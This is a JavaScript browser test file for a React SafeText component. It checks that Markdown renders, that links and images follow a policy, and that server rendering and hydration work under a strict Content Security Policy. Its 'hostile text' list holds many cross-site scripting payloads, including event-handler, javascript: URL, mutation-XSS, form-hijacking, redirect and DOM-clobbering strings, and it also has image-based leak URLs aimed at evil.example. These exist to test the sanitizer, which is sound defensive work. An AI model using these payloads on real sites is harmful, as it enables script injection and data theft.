// `SafeText` in Chromium with Trusted Types required: hostile Markdown and HTML stay words, a server renders them too.

import assert from 'node:assert/strict';
import { once } from 'node:events';
import { createServer } from 'node:http';
import { after, before, test } from 'node:test';
import { fileURLToPath } from 'node:url';

import { build } from 'esbuild';

import { launchBrowser } from './support.mjs';

const POLICY =
  "default-src 'none'; script-src 'self'; connect-src 'self'; img-src 'self' https:; require-trusted-types-for 'script'; trusted-types dompurify";
const SAFE_TEXT = fileURLToPath(new URL('../../pkg/dist/react/index.js', import.meta.url));
const ROOT = fileURLToPath(new URL('../../www', import.meta.url));
const MODULES = fileURLToPath(new URL('../../node_modules', import.meta.url));

const APP = `
import { createElement } from 'react';
import { createRoot, hydrateRoot } from 'react-dom/client';
import { flushSync } from 'react-dom';
import { renderToString } from 'react-dom/server';
import { SafeText } from ${JSON.stringify(SAFE_TEXT)};

const POLICIES = {
  default: {},
  none: { links: 'none' },
  own: { links: ({ host }) => host === 'docs.example.org' },
  images: { images: ({ origin }) => origin === location.origin },
};
globalThis.errors = [];
// DOMPurify parses into a document without a window, which reports the handlers and styles that it meets and runs none.
addEventListener('securitypolicyviolation', ({ violatedDirective, sample }) => {
  if (!/^(script|style)-src/.test(violatedDirective)) errors.push(violatedDirective + ' ' + sample);
});
addEventListener('error', (event) => errors.push(event.message));
const host = document.getElementById('root');
let root;
globalThis.show = (text, policy = 'default') => {
  root ??= createRoot(host);
  flushSync(() => root.render(createElement(SafeText, { text, className: 'answer', ...POLICIES[policy] })));
  return host.firstElementChild.innerHTML;
};
globalThis.onServer = (text) => renderToString(createElement(SafeText, { text }));
globalThis.hydrated = async (text) => {
  const other = document.getElementById('other');
  const problems = [];
  hydrateRoot(other, createElement(SafeText, { text }), { onRecoverableError: (error) => problems.push(String(error)) });
  await new Promise((resolve) => setTimeout(resolve, 100));
  return [other.innerHTML, problems];
};
`;

let browser;
let page;
let server;
const asked = [];
before(async () => {
  const bundle = await build({
    stdin: { contents: APP, resolveDir: ROOT },
    bundle: true,
    format: 'iife',
    nodePaths: [MODULES],
    define: { 'process.env.NODE_ENV': '"production"' },
    write: false,
    logLevel: 'silent',
  });
  const script = bundle.outputFiles[0].text;
  const served = `${'<!doctype html><div id="root"></div><div id="other">'}`;
  server = createServer((request, response) => {
    asked.push(request.url);
    response.setHeader('content-security-policy', POLICY);
    if (request.url === '/app.js') response.setHeader('content-type', 'text/javascript').end(script);
    else if (request.url === '/')
      response
        .setHeader('content-type', 'text/html')
        .end(`${served}<div>First<br/>second **line**</div></div><script src="/app.js"></script>`);
    else response.writeHead(404).end();
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  browser = await launchBrowser();
  page = await browser.newPage();
  await page.goto(`http://127.0.0.1:${server.address().port}/`);
  await page.waitForFunction(() => 'show' in globalThis);
});
after(async () => {
  await browser?.close();
  server?.closeAllConnections();
  server?.close();
});

const show = (text, policy) => page.evaluate(([words, how]) => globalThis.show(words, how), [text, policy]);

test('Markdown is rendered', async () => {
  const html = await show(
    '# Title\n\nSome **bold**, `code`, ~~gone~~.\n\n- [x] done\n- [ ] open\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n```js\nlet a = "<b>";\n```\n',
  );
  for (const part of [
    '<h1>Title</h1>',
    '<strong>bold</strong>',
    '<del>gone</del>',
    '☑ done',
    '☐ open',
    '<td align="right">2</td>',
  ]) {
    assert.ok(html.includes(part), `${part} in ${html}`);
  }
  assert.ok(html.includes('<code class="language-js">let a = "&lt;b&gt;";'), html);
});

test('links by policy: absolute, without the opener', async () => {
  const text =
    '[ok](https://docs.example.org/a?b=1) [mail](mailto:a@example.org) [other](http://evil.example) <https://auto.example>';
  const html = await show(text);
  assert.equal(html.match(/<a /gu).length, 4);
  assert.equal(html.match(/rel="noopener noreferrer nofollow"/gu).length, 4);
  assert.equal((await show(text, 'own')).match(/<a /gu).length, 1);
  assert.doesNotMatch(await show(text, 'none'), /<a |href/u);
  assert.match(await show(text, 'none'), /ok mail other/u);
});

test('images are not loaded, unless the policy says so', async () => {
  asked.length = 0;
  const text =
    '![what it read](/leak?secret=1) ![x](https://evil.example/leak?secret=2) <img src="/leak?secret=3" alt="raw">';
  assert.match(await show(text), /\[what it read\] \[x\] \[raw\]/u);
  await show('![a](//evil.example/x)', 'images');
  assert.deepEqual(asked, []);
  const origin = new URL(page.url()).origin;
  const html = await show(`![mine](${origin}/mine.png) ![theirs](https://evil.example/x.png)`, 'images');
  assert.match(html, /<img [^>]*src="http:\/\/127[^"]*mine\.png"/u);
  assert.match(html, /referrerpolicy="no-referrer"/u);
  assert.match(html, /\[theirs\]/u);
  // Asked for by now, and not in the middle of the next test.
  await page.waitForFunction(() => document.querySelector('.answer img').complete);
  assert.deepEqual(asked, ['/mine.png']);
});

const HOSTILE = [
  '<script>globalThis.hacked = 1</script>',
  '<img src=x onerror="globalThis.hacked = 1">',
  '<svg onload="globalThis.hacked = 1"><animate onbegin="globalThis.hacked = 1" attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=globalThis.hacked=1&gt;">',
  '<iframe srcdoc="<script>parent.hacked = 1</script>"></iframe>',
  '[click](javascript:globalThis.hacked=1)',
  '[click](java\tscript:globalThis.hacked=1)',
  '[click](data:text/html,<script>opener.hacked=1</script>)',
  '[click](vbscript:x) [click](blob:https://x/1) [click](file:///etc/passwd)',
  '<a href="javascript:globalThis.hacked=1" onclick="globalThis.hacked=1">x</a>',
  '<form action="https://evil.example"><input name="password"><button formaction="javascript:globalThis.hacked=1">Sign in</button></form>',
  '<style>body { display: none }</style><p style="position:fixed;inset:0">x</p>',
  '<div id="root" class="modal" data-testid="x" aria-label="y" name="getElementById">clobber</div>',
  '<object data="javascript:globalThis.hacked=1"></object><embed src="javascript:globalThis.hacked=1">',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example"><link rel="stylesheet" href="https://evil.example/a.css">',
  '<details open ontoggle="globalThis.hacked=1"><video autoplay onplay="globalThis.hacked=1"><source onerror="globalThis.hacked=1"></video></details>',
  '<noscript><p title="</noscript><img src=x onerror=globalThis.hacked=1>"></noscript>',
  '```\n</code></pre><img src=x onerror=globalThis.hacked=1>\n```',
  '[a]: javascript:globalThis.hacked=1\n\n[a]',
  '![x](x "onerror=globalThis.hacked=1")<b <script>globalThis.hacked=1</script>>',
  '<template><img src=x onerror=globalThis.hacked=1></template><x-y onclick=globalThis.hacked=1>z</x-y>',
  `${'> '.repeat(5000)}deep`,
  `${'['.repeat(5000)}${'('.repeat(5000)}`,
  `${'*a_ '.repeat(5000)}`,
  `${'<b>'.repeat(5000)}deep`,
];

test('hostile text runs nothing, loads nothing, looks like nothing of the app', async () => {
  asked.length = 0;
  for (const text of HOSTILE) {
    const html = await show(text);
    const bad = await page.evaluate(() => {
      const host = document.querySelector('.answer');
      const attributes = [...host.querySelectorAll('*')].flatMap((element) =>
        [...element.attributes].map(({ name }) => name),
      );
      const allowed = ['href', 'title', 'align', 'start', 'class', 'rel', 'target'];
      return {
        hacked: globalThis.hacked,
        attributes: attributes.filter((name) => !allowed.includes(name)),
        elements: [
          ...host.querySelectorAll(
            'script,style,iframe,form,input,button,img,svg,math,object,embed,base,meta,link,video,template',
          ),
        ].length,
        protocols: [...host.querySelectorAll('a')]
          .map((link) => link.protocol)
          .filter((one) => !['http:', 'https:', 'mailto:'].includes(one)),
        classes: [...host.querySelectorAll('[class]')].length,
      };
    });
    assert.deepEqual(
      bad,
      { hacked: undefined, attributes: [], elements: 0, protocols: [], classes: 0 },
      `${text.slice(0, 80)} became ${html.slice(0, 200)}`,
    );
    for (const link of await page.locator('.answer a').all()) assert.ok(await link.getAttribute('rel'));
  }
  assert.deepEqual(asked, []);
  assert.deepEqual(await page.evaluate(() => globalThis.errors), [], 'no policy was broken');
});

test('a text that is too long is shown as it is', async () => {
  const html = await show(`**bold**\n<b>${'x'.repeat(200_000)}`);
  assert.ok(html.startsWith('**bold**<br>&lt;b&gt;xxx'), html.slice(0, 60));
});

test('what was shown stays while more comes: a selection too', async () => {
  await show('First paragraph.\n\nSecond para');
  const same = await page.evaluate(() => {
    const first = document.querySelector('.answer p');
    getSelection().selectAllChildren(first);
    globalThis.show('First paragraph.\n\nSecond paragraph, longer.\n\nThird.');
    return [
      first === document.querySelector('.answer p'),
      String(getSelection()),
      document.querySelectorAll('.answer p').length,
    ];
  });
  assert.deepEqual(same, [true, 'First paragraph.', 3]);
});

test('a server renders words, and the page takes over from there', async () => {
  const html = await page.evaluate(() => globalThis.onServer('First\n<img src=x onerror=alert(1)>'));
  assert.equal(html, '<div>First<br/>&lt;img src=x onerror=alert(1)&gt;</div>');
  const [hydrated, problems] = await page.evaluate(() => globalThis.hydrated('First\nsecond **line**'));
  assert.deepEqual(problems, []);
  assert.match(hydrated, /<strong>line<\/strong>/u);
  assert.deepEqual(await page.evaluate(() => globalThis.errors), []);
});
